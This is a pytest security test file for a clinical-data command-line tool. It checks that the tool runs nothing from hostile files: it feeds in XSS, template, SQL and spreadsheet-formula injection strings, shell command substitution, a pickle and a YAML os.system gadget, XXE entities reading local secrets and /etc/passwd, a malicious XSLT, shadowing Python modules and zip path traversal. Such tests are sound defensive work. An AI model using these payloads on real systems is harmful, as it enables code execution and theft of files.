"""Nothing that a stranger's file, archive or cache holds is executed: each way is tried."""

from __future__ import annotations

import ast
import html.parser
import os
import pickle
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import yaml
from hostile.more_bases import REGISTERS
from imports import modules, short, tree
from support import OTHER, ROOT, StudyCopy

from onespec.cli.main import main

CANARY = "executed"
# A value for each program that may look at it; each fits a transport file.
PAYLOADS = (
    "<script>document.title='executed'</script>",
    '"><img src=x onerror=alert(1)><svg onload=alert(1)>',
    "</script></style></title><iframe src=javascript:alert(1)>",
    "{{ 7*7 }}{% include '/etc/passwd' %}{{ ''.__class__.__mro__ }}",
    '#eval("1+1") #include "/etc/passwd" #read("/etc/passwd") $x$',
    "'); COPY (SELECT 1) TO 'executed'; ATTACH 'executed'; --",
    "read_csv('/etc/passwd'); INSTALL httpfs; LOAD httpfs",
    "=cmd|' /C touch executed'!A0",
    '=HYPERLINK("http://example.org/"&A1,"x")',
    "$(touch executed) `touch executed`; touch executed",
    "%(executed)s {study.__class__} ${executed} %n",
    "(a+)+$" + "a" * 40 + "!",
)
PYTHON = "from pathlib import Path\nPath({canary!r}).touch()\n"


class Payload:
    """What a pickle of it does."""

    def __init__(self, file: Path):
        self.file = file

    def __reduce__(self):
        return Path.touch, (self.file,)


@pytest.fixture
def canary(tmp_path, monkeypatch) -> Path:
    """A file that what is executed makes, by its whole name or in the current folder."""
    (tmp_path / "here").mkdir()
    monkeypatch.chdir(tmp_path / "here")
    return tmp_path / "here" / CANARY


def quietly(*words: object) -> int:
    """A command; a traceback or a fault of the program fails."""
    code = main([str(word) for word in words])
    assert code in (0, 1, 2)
    return code


# -- values and names in every output ----------------------------------------------------------------


class Page(html.parser.HTMLParser):
    """What of a page could run: scripts, handlers, addresses."""

    def __init__(self):
        super().__init__()
        self.found, self.script = [], False

    def handle_starttag(self, tag, attrs):
        self.script = tag == "script"
        if tag in ("iframe", "object", "embed"):
            self.found.append(tag)
        for name, value in attrs:
            if (name.startswith("on") and tag in ("img", "svg")) or str(value).strip().startswith("javascript:"):
                self.found.append(f"{tag} {name}")

    def handle_data(self, data):
        if self.script and "document.title='executed'" in data and "\\u003c" not in data and "&lt;" not in data:
            self.found.append("script")

    def handle_endtag(self, tag):
        self.script = False


def runnable(page: str) -> list[str]:
    parser = Page()
    parser.feed(page)
    return parser.found


def test_the_judge_of_pages_sees_what_could_run():
    for payload in PAYLOADS[:3]:
        assert runnable(f"<p>{payload}</p>")
    assert runnable("<script>let a = 1</script><p>&lt;script&gt;</p>") == []


def cell(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


@pytest.fixture
def poisoned(tmp_path) -> StudyCopy:
    """A study whose texts are all payloads: values, labels of fields, titles."""
    study = StudyCopy(tmp_path / "study")
    shutil.copytree(OTHER, study.folder)
    shutil.copytree(study.folder / "qc", study.spec / "qc")
    rows = [f"101,{n},{cell(text)},Dysphonia,{cell(text)},10/01/2021,no,ok" for n, text in enumerate(PAYLOADS, 1)]
    header = (study.raw / "events.csv").read_text("utf-8").splitlines()[0]
    (study.raw / "events.csv").write_text("\n".join([header, *rows, ""]), "utf-8")
    said = yaml.safe_dump(" ".join(PAYLOADS[:6]), width=10_000).strip()
    study.replace(
        "spec/study.yaml", "Inhaled corticosteroid against placebo in mild asthma (invented for tests)", "TITLE"
    )
    study.replace("spec/study.yaml", "description: TITLE", f"description: {said}")
    labels = iter(yaml.safe_dump(text, width=10_000).strip() for text in PAYLOADS)
    for label in ("Event", "Body system", "Enrolment", "Product", "Peak expiratory flow"):
        study.replace("spec/crf.yaml", f"{{en: {label}}}", f"{{en: {next(labels)}}}")
    return study


def test_values_and_titles_are_text_in_every_output(poisoned, canary, capsys):
    places = "--study", poisoned.spec, "--raw", poisoned.raw, "--out", poisoned.out
    assert quietly("build", *places, "--workers", "1", "--quiet") == 0, capsys.readouterr().err
    for command in ("validate", "qc", "document", "report", "queries", "export", "archive"):
        quietly(command, *places)
    quietly("explain", "AE", *places)
    quietly("subject", "101", *places, "--output", "subject.html")
    quietly("acrf", "--study", poisoned.spec, "--output", "acrf.pdf")
    sdtm = poisoned.out / "sdtm"
    quietly("define-html", sdtm / "define.xml", "--output", "define.html")
    quietly("spec", "export", sdtm / "define.xml", "--xlsx", "spec.xlsx")
    quietly("compare", sdtm, sdtm, "--html", "compare.html", "--xlsx", "compare.xlsx", "--json", "compare.json")
    quietly("transfer", OTHER / "raw", poisoned.raw, "--study", poisoned.spec, "--html", "t.html", "--csv", "t.csv")
    here = (poisoned.folder, Path.cwd())
    pages = [p for folder in here for p in folder.rglob("*.html")]
    assert len(pages) > 4
    for page in pages:
        assert runnable(page.read_text("utf-8")) == [], page
    for book in (p for folder in here for p in folder.rglob("*.xlsx")):
        cells = (c for sheet in openpyxl.load_workbook(book) for row in sheet.iter_rows() for c in row)
        assert [c.coordinate for c in cells if c.data_type == "f"] == [], book
    written = b"".join(p.read_bytes() for folder in here for p in folder.rglob("*") if p.is_file())
    assert b"root:x:0:0" not in written and b"{{ 7*7 }}" in written
    assert not list(poisoned.folder.rglob(CANARY)) and not canary.exists()
    assert "\x1b" not in capsys.readouterr().out


def test_an_escape_of_the_terminal_is_shown_as_text(poisoned, canary, capsys):
    """It is a stop, and its text says what it is."""
    with (poisoned.raw / "events.csv").open("a", encoding="utf-8") as file:
        file.write("101,99,hoarse,Dysphonia,x,10/01/2021,\x1b]0;x\x07\x1b[2J,ok\n")
    poisoned.build()
    said = capsys.readouterr()
    assert "\\x1b]0;x\\x07" in said.err and "\x1b" not in said.err + said.out


def test_the_pdf_holds_the_text_and_runs_nothing(canary):
    from datetime import datetime

    from onespec.engine.paper.typeset import quoted, typeset

    source = "".join(f"#{quoted(text)}\n\n" for text in PAYLOADS)
    assert typeset("#set document(title: " + quoted(PAYLOADS[4]) + ")\n" + source, datetime(2021, 3, 1)).startswith(
        b"%PDF"
    )


# -- pickles -----------------------------------------------------------------------------------------


def test_parquet_with_pickles_in_its_metadata(canary):
    """Of pandas, and of Arrow's own type for objects of Python, which older versions unpickled when a file was read."""
    said = pickle.dumps(Payload(canary))
    extension = {b"ARROW:extension:name": b"arrow.py_extension_type", b"ARROW:extension:metadata": said}
    schema = pa.schema([pa.field("A", pa.string(), metadata=extension)], metadata={b"pandas": said, b"pickle": said})
    table = pa.table({"A": ["1"]}).cast(pa.schema([pa.field("A", pa.string())])).cast(schema)
    for name in ("one.parquet", "two.parquet"):
        pq.write_table(table, name)
    quietly("compare", "one.parquet", "two.parquet")
    assert not canary.exists()
    pickle.loads(said)
    assert canary.exists(), "the pickle does what it should not be let do"


def test_a_cache_of_pickles(other_done, canary):
    said = pickle.dumps(Payload(canary))
    for path in (other_done.folder / ".out.cache").rglob("*"):
        if path.is_file() and path.name != "lock":
            path.write_bytes(said)
    (other_done.out / "sdtm" / "ae.xpt").unlink()
    assert other_done.build() == 0
    assert not canary.exists()


# -- YAML --------------------------------------------------------------------------------------------


TAG = '!!python/object/apply:os.system ["touch executed"]'


@pytest.mark.parametrize("file", ["study", "crf", "codelists", "sdtm/ae", "checks", "common", "queries", *REGISTERS])
def test_a_tag_of_yaml_makes_no_object(other_done, canary, file):
    path = other_done.spec / f"{file}.yaml"
    before = path.read_text("utf-8") if path.exists() else ""
    command = REGISTERS[file][1].split() if file in REGISTERS else ["build"]
    for text in (f"{TAG}\n", f"{before}\nx: {TAG}\n", f"? {TAG}\n: x\n", f"- &a {TAG}\n- *a\n"):
        path.write_text(text, "utf-8")
        quietly(*command, "--study", other_done.spec, "--raw", other_done.raw, "--out", other_done.out)
        assert not canary.exists() and not list(other_done.folder.rglob(CANARY))


# -- XML and workbooks -------------------------------------------------------------------------------


OUTSIDE = '<!DOCTYPE ODM [<!ENTITY x SYSTEM "file://{secret}"><!ENTITY % d SYSTEM "file://{secret}">%d;]>'
SHEET = '<?xml-stylesheet type="text/xsl" href="evil.xsl"?>'
XSL = """<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"
  xmlns:exsl="http://exslt.org/common" extension-element-prefixes="exsl">
 <xsl:template match="/"><exsl:document href="executed" method="text">x</exsl:document>
  <xsl:value-of select="document('/etc/passwd')"/></xsl:template></xsl:stylesheet>"""


@pytest.mark.parametrize("head", [OUTSIDE, SHEET, OUTSIDE + SHEET])
def test_entities_from_elsewhere_and_foreign_stylesheets(other_done, canary, head, capsys):
    secret = canary.parent / "secret.txt"
    secret.write_text("SECRETSECRET")
    Path("evil.xsl").write_text(XSL)
    define = (other_done.out / "sdtm" / "define.xml").read_text("utf-8")
    declared, _, rest = define.partition("?>")
    rest = rest.replace("Adverse Events", "&x;" if "x SYSTEM" in head else "Adverse Events", 1)
    Path("define.xml").write_text(f"{declared}?>{head.format(secret=secret)}{rest}", "utf-8")
    quietly("define-check", "define.xml")
    quietly("define-html", "define.xml", "--output", "define.html")
    quietly("spec", "import", "define.xml", "--study", "study")
    quietly("ct", "check", "define.xml", "--study", other_done.spec)
    shutil.copy("define.xml", other_done.raw / "export.xml")
    other_done.build()
    said = capsys.readouterr()
    made = b"".join(p.read_bytes() for p in Path().rglob("*") if p.is_file() and p != Path("secret.txt"))
    assert b"SECRETSECRET" not in made and "SECRETSECRET" not in said.out + said.err
    assert b"root:x:0:0" not in made and not canary.exists()


def test_a_workbook_with_entities_formulas_and_links(other_done, canary, capsys):
    """As a form's file, a dataset and a specification: a formula is no value, an entity of elsewhere is refused."""
    secret = canary.parent / "secret.txt"
    secret.write_text("SECRETSECRET")
    book = openpyxl.Workbook()
    for row in (["USUBJID", "X"], ["1", PAYLOADS[7]], ["2", '=WEBSERVICE("http://example.org")']):
        book.active.append(row)
    book.save("plain.xlsx")
    with zipfile.ZipFile("plain.xlsx") as old, zipfile.ZipFile("outside.xlsx", "w") as new:
        for name in old.namelist():
            data = old.read(name).decode()
            head, mark, rest = data.rpartition("?>") if data.startswith("<?xml") else ("", "", data)
            new.writestr(name, head + mark + OUTSIDE.format(secret=secret) + rest)
    for name in ("plain.xlsx", "outside.xlsx"):
        quietly("compare", name, name)
        quietly("spec", "import", name, "--study", "study")
        quietly("ct", "check", name, "--study", other_done.spec)
        shutil.copy(name, other_done.raw / "events.xlsx")
        other_done.build()
    said = capsys.readouterr()
    assert "SECRETSECRET" not in said.out + said.err and not canary.exists()


# -- files that Python or a shell would look for ------------------------------------------------------


SHADOWS = ("pandas.py", "numpy.py", "yaml.py", "pyarrow.py", "lxml.py", "duckdb.py", "json.py", "sitecustomize.py")
SHADOWS += ("usercustomize.py", "conftest.py", "evil.pth", "setup.py", "methods.py", "onespec.py", "pip.py")


def shadowed(folder: Path, canary: Path) -> None:
    for name in SHADOWS:
        text = f"import pathlib; pathlib.Path({str(canary)!r}).touch()\n"
        (folder / name).write_text(text)


@pytest.mark.slow
@pytest.mark.parametrize("workers", ["1", "2"])
def test_modules_in_the_export_and_in_the_current_folder(other, canary, workers):
    """As the installed command starts: its own folder is looked into, the current one is not."""
    started = other.folder / "bin" / "onespec"
    started.parent.mkdir()
    started.write_text(
        "import sys\nfrom onespec.cli.main import main\nif __name__ == '__main__':\n    sys.exit(main())\n"
    )
    shadowed(other.raw, canary)
    shadowed(Path.cwd(), canary)
    other.append("spec/crf.yaml", 'ignore: {"*.py": none of the export, "*.pth": none of the export}\n')
    words = "build", "--study", other.spec, "--raw", other.raw, "--out", other.out, "--workers", workers
    done = subprocess.run(
        [sys.executable, str(started), *map(str, words), "--part-rows", "1"],
        cwd=other.raw,
        env=os.environ | {"PYTHONPATH": str(ROOT)},
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert not canary.exists() and not list(other.folder.rglob(CANARY))


def test_processes_do_not_look_into_the_current_folder():
    """Python that this program starts with -m has -P, too: else it takes its modules from where the user stands."""
    for path in modules().values():
        for node in (n for n in ast.walk(tree(path)) if isinstance(n, (ast.List, ast.Tuple))):
            words = [each.value if isinstance(each, ast.Constant) else ast.unparse(each) for each in node.elts]
            python = "sys.executable" in words or "str(self.python)" in words or "pip" in words
            if "-m" in words and python and "distributed.cli." not in str(words):
                assert "-P" in words, f"{short(path)}:{node.lineno}"


@pytest.mark.slow
def test_an_archive_with_programs_beside(other_done, canary):
    places = "--study", other_done.spec, "--raw", other_done.raw, "--out", other_done.out
    assert quietly("archive", *places) == 0
    [file] = (other_done.folder / "out.archive").glob("*.zip")
    with zipfile.ZipFile(file) as archive:
        archive.extractall("unpacked")
    [bag] = Path("unpacked").iterdir()
    for folder in (Path.cwd(), bag, *(p for p in bag.rglob("*") if p.is_dir())):
        shadowed(folder, canary)
    with zipfile.ZipFile(file, "a") as archive:
        for name in SHADOWS:
            archive.writestr(f"{bag.name}/data/{name}", PYTHON.format(canary=str(canary)))
            archive.writestr(f"../{name}", PYTHON.format(canary=str(canary)))
    assert quietly("verify", bag) == 1
    assert quietly("verify", file) == 1
    assert not canary.exists() and not (Path.cwd().parent / "evil.pth").exists()


def test_a_frame_of_payloads_is_written_as_text(canary):
    """Names of columns, too."""
    frame = pd.DataFrame({f"X{n}": [text] for n, text in enumerate(PAYLOADS)} | {PAYLOADS[5]: ["1"]})
    frame.to_csv("one.csv", index=False)
    frame.assign(X1="2").to_csv("two.csv", index=False)
    quietly("compare", "one.csv", "two.csv", "--html", "c.html", "--xlsx", "c.xlsx")
    assert runnable(Path("c.html").read_text("utf-8")) == [] and not canary.exists()
